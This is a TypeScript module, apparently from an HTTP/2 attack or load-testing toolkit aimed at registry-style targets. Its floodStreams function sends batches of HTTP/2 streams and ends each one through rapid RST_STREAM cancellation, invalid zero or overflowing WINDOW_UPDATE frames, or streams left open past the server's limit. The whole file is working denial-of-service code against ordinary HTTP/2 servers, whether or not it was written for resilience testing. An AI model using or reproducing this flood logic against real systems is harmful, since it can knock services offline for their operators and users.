import { data, headers, rstStream, TYPE, windowUpdate } from '../../raw-http/http2-frames.ts'
import type { RawHttp2 } from '../../raw-http/raw-http2.ts'
import type { AttackReport, AttackTarget } from '../attack.ts'
import { ConnectionGroup } from '../connection-group.ts'
import { type FloodOptions, flood } from './flood.ts'

const BATCH = 50
const MAX_WINDOW = 0x7fffffff

/**
 * How each stream of a flood ends: `cancel` by RST_STREAM, `zero` and `overflow` by an invalid WINDOW_UPDATE for which the
 * server resets it, `body` after a request body. `unending` ends no stream, and opens more than the server allows.
 */
export type StreamFlood = 'cancel' | 'zero' | 'overflow' | 'body' | 'unending'

/** Opens streams as fast as the connection accepts them. */
export async function floodStreams(
  target: AttackTarget,
  { kind, ...options }: FloodOptions & { kind: StreamFlood },
): Promise<AttackReport> {
  const group = new ConnectionGroup(target, options.signal)
  const count = await flood(group, options, {
    open: () => group.openHttp2WithoutWaiting(kind === 'unending' ? { window: 0 } : {}),
    batch: (client) => {
      const frames = Array.from({ length: BATCH }, () => streamFrames(client, target, kind)).flat()
      return { bytes: Buffer.concat(frames), units: BATCH }
    },
  })
  return { ...count, answered: group.countFrames(TYPE.headers), reset: group.countFrames(TYPE.rstStream) }
}

function streamFrames(client: RawHttp2, target: AttackTarget, kind: StreamFlood): Buffer[] {
  const stream = client.newStream()
  const block = client.block(stream % 4 === 1 ? target.blob : target.manifest)
  switch (kind) {
    case 'cancel':
      return [headers(stream, block), rstStream(stream)]
    case 'zero':
      return [headers(stream, block), windowUpdate(stream, 0)]
    case 'overflow':
      return [headers(stream, block), windowUpdate(stream, MAX_WINDOW), windowUpdate(stream, MAX_WINDOW)]
    case 'body':
      return [
        headers(stream, block, { endStream: false }),
        data(stream, Buffer.alloc(16), { endStream: true }),
      ]
    case 'unending':
      return [headers(stream, block, { endStream: false })]
  }
}
